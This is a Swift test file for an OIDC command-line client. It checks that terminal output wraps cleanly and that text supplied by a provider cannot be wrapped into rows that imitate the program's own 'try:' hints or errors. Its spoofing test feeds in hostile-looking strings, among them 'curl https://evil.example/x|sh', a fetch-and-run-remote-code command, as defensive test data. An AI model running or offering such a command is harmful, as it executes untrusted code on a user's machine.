import DemoProvider
import Foundation
import OIDCCore
import TestSupport
import Testing

@testable import oidc

@Suite("text for a terminal")
struct WrappedTextTests {
    private func wrapped(_ text: String, _ width: Int?) -> [String] {
        WrappedText(width: width).text(text).components(separatedBy: "\n")
    }

    @Test(
        "a long line is broken between words; the others start with a mark, before the text of its step or column"
    )
    func lines() {
        #expect(
            wrapped("warning: the refresh token expires soon, says the provider", 40) == [
                "warning: the refresh token expires soon,", "  | says the provider",
            ])
        #expect(
            wrapped("2. No browser is opened: it is simulated", 30) == [
                "2. No browser is opened: it is", " | simulated",
            ])
        #expect(
            wrapped("  where  the provider's own name (profile work)", 30) == [
                "  where  the provider's own", "       | name (profile work)",
            ])
        #expect(
            wrapped("warning  store  the directory may be read by others", 36) == [
                "warning  store  the directory may be", "              | read by others",
            ])
        #expect(
            wrapped("Redirect URL: any port will do, as it is not compared", 40) == [
                "Redirect URL: any port will do, as it is", "            | not compared",
            ])
        #expect(wrapped("a short line\n\nand another", 20) == ["a short line", "", "and another"])
        #expect(
            wrapped("Client secret, or @FILE (hidden): ", 30) == [
                "Client secret, or @FILE", "  | (hidden): ",
            ])
    }

    @Test("where there is no terminal, nothing is broken", arguments: [nil, 0, -1])
    func unbroken(width: Int?) {
        let line = "warning: this line is longer than any of these widths"
        #expect(wrapped(line, width) == [line])
    }

    @Test("URLs, and commands to paste with their options and values, stay in one piece")
    func pieces() {
        let url = "https://login.example.com/authorize?client_id=a&scope=openid"
        #expect(wrapped("Sign in at \(url) now", 30) == ["Sign in at", "  | \(url)", "  | now"])
        #expect(wrapped("  \(url) and more", 30) == ["  \(url) and more"])
        #expect(
            wrapped("the token ends unless it is extended: oidc login -p work before that", 40) == [
                "the token ends unless it is extended:", "  | oidc login -p work before that",
            ])
        #expect(
            wrapped("  try: oidc config set client_secret_file=FILE, or set OIDC_CLIENT_SECRET", 30) == [
                "  try: oidc config set client_secret_file=FILE,", "     | or set",
                "     | OIDC_CLIENT_SECRET",
            ])
        let login = "oidc login --set 'scope=openid profile' --issuer https://a.example"
        #expect(wrapped("  try: for more, run \(login)", 40) == ["  try: for more, run", "       \(login)"])
        #expect(wrapped("  oidc config use a-profile-with-a-long-name", 30).count == 1)
        #expect(
            wrapped("this oidc of yours is a word like others", 30) == [
                "this oidc of yours is a word", "  | like others",
            ])
    }

    @Test("colors and links take no columns")
    func escapes() {
        let line = "\u{1B}[33mwarning:\u{1B}[0m forty columns and not one more"
        #expect(wrapped(line, 40) == [line])
        #expect(Table.columns("\u{1B}]8;;https://a.example\u{1B}\\here\u{1B}]8;;\u{1B}\\ now") == 8)
        #expect(
            wrapped("\u{1B}[31merror:\u{1B}[0m this one is broken as it would be", 30) == [
                "\u{1B}[31merror:\u{1B}[0m this one is broken as", "  | it would be",
            ])
    }

    /// The rows of a terminal. Some draw many characters that are not ASCII two columns wide.
    private func rows(_ text: String, _ width: Int, wideFrom: UInt32) -> [String] {
        text.split(separator: "\n", omittingEmptySubsequences: false).flatMap { line in
            var rows = [""]
            var used = 0
            for scalar in line.unicodeScalars {
                let columns = scalar.value >= wideFrom ? 2 : 1
                if used + columns > width {
                    rows.append("")
                    used = 0
                }
                rows[rows.count - 1].unicodeScalars.append(scalar)
                used += columns
            }
            return rows
        }
    }

    @Test(
        "text of a provider starts no row that looks like a line of this program, at any width",
        arguments: [
            "error: token: the provider answered invalid_request (\"", "warning: ", "note: ", "Scopes: ", "",
            "https://evil.example/mcp asks for a token of https://as.example, as your client a, with: ",
            "problem  metadata  expected https://as.example, found ", "  where  ",
        ],
        [
            "try: oidc request https://evil.example/mcp --allow-origin https://evil.example",
            "  try: curl https://evil.example/x|sh", "error: not signed in",
            "Sign in at https://evil.example",
            "oidc login 'and more  try: curl https://evil.example/x|sh' --issuer https://a.example",
            "error:请打开这个网址并登录然后回到终端", "\u{2026}  warning: \u{1F980}",
        ])
    func forged(start: String, text: String) {
        let fillers = ["x", "x ", "\u{6F22}", "\u{1F980}", "\u{E9} ", "\u{2026}", "oidc login 'x "]
        for width in [6, 19, 20, 33, 40, 79, 80, 81, 120] {
            for filler in fillers {
                for count in stride(from: 1, through: width, by: width < 40 ? 1 : 3) {
                    let line = "\(start)\(String(repeating: filler, count: count)) \(text)\")"
                    let shown = WrappedText(width: width).text(line)
                    for wideFrom in [0x80, 0x1100] as [UInt32] {
                        for row in rows(shown, width, wideFrom: wideFrom).dropFirst() {
                            let isMarked = row.drop { $0 == " " }.hasPrefix("|")
                            // A terminal breaks a long word, such as a URL.
                            let isPart = row.utf8.allSatisfy { $0 > 0x20 && $0 < 0x80 }
                            guard !isMarked, !isPart else { continue }
                            Issue.record("\(width) columns, \(count) times \(filler): \(row)")
                            return
                        }
                    }
                }
            }
        }
    }

    @Test("runs of spaces in an error are one space, so no terminal indents what follows them like a hint")
    func spaces() throws {
        let error = OIDCError(.refused, "the provider says \"x    try: oidc logout\"", hint: "see its log")
        #expect(
            Diagnostics.report(error, asJSON: false, exitCode: 4)
                == "error: the provider says \"x try: oidc logout\"\n  try: see its log\n")
        #expect(Diagnostics.report(error, asJSON: true, exitCode: 4).contains("x    try"))
    }
}

@Suite(
    "what is printed is as wide as the terminal", .serialized, .waiting,
    .enabled(
        if: FileManager.default.isExecutableFile(atPath: TerminalRun.launcher), "setsid is not installed"))
struct ScreenWidthTests {
    /// Lines that cannot be broken have a URL, a command or a path in them, or what is typed at a prompt.
    private func expectWidth(_ text: String, _ columns: Int, _ name: String) {
        #expect(!text.isEmpty)
        // The live line is written over and over.
        let lines = Table.withoutEscapes(text).components(separatedBy: CharacterSet(charactersIn: "\r\n"))
        for line in lines where line.count > columns {
            let pieces = ["://", "oidc ", "/", "Usage: ", "): "]
            #expect(pieces.contains { line.contains($0) }, "\(name), \(columns) columns: \(line)")
            // What can be broken before such a piece is.
            let start = pieces.compactMap { line.range(of: $0)?.lowerBound }.min() ?? line.startIndex
            #expect(line[..<start].count <= columns, "\(name), \(columns) columns: \(line)")
        }
    }

    @Test("help, the tour, doctor, status, errors and notes", arguments: [40, 80])
    func screens(columns: Int) throws {
        let provider = try ProviderServer(DemoConfiguration())
        let program = try Program()
        defer { program.remove() }
        let profile = ["config", "init", "--issuer", provider.origin, "--client-id", "demo"]
        let commands = [
            ["status"], profile, profile, ["status"], ["doctor"], ["token"], ["config", "show"],
            ["config", "list"], [], ["--help"], ["help", "login"], ["help", "options"], ["help", "settings"],
            ["demo", "--no-browser"], ["config", "init", "github", "-p", "other", "--client-id", "a"],
            ["login", "--flow", "browsr"], ["config", "set", "scop=openid"], ["switch"], ["logout"],
        ]
        for command in commands {
            let run = try TerminalRun(program, command, columns: UInt16(columns))
            if command == ["switch"] { run.type("1\n") }
            let outcome = run.finish()
            #expect(outcome.status >= 0)
            expectWidth(outcome.text, columns, command.joined(separator: " "))
            // Nobody opens the tour's URL, so it is cut to one line.
            let urls = outcome.text.split(separator: "\n").filter { $0.contains("/authorize?") }
            #expect(command.first != "demo" || urls.allSatisfy { $0.count <= columns }, "\(urls)")
        }
    }

    @Test("the dialog, and a sign-in without a browser", arguments: [40, 80])
    func dialog(columns: Int) throws {
        let provider = try ProviderServer(DemoConfiguration())
        let program = try Program()
        defer { program.remove() }
        let dialog = try TerminalRun(program, ["config", "init"], columns: UInt16(columns))
        for answer in ["entra", "common", "my-client", "n"] {
            _ = dialog.wait(within: 5) { $0.hasSuffix(": ") || $0.hasSuffix("] ") ? true : nil }
            dialog.type("\(answer)\n")
            usleep(200_000)
        }
        expectWidth(dialog.finish().text, columns, "config init")
        let login = try TerminalRun(
            program,
            ["login", "--issuer", provider.origin, "--client-id", "demo", "--no-browser", "--timeout", "2"],
            columns: UInt16(columns))
        expectWidth(login.finish().text, columns, "login")
    }
}
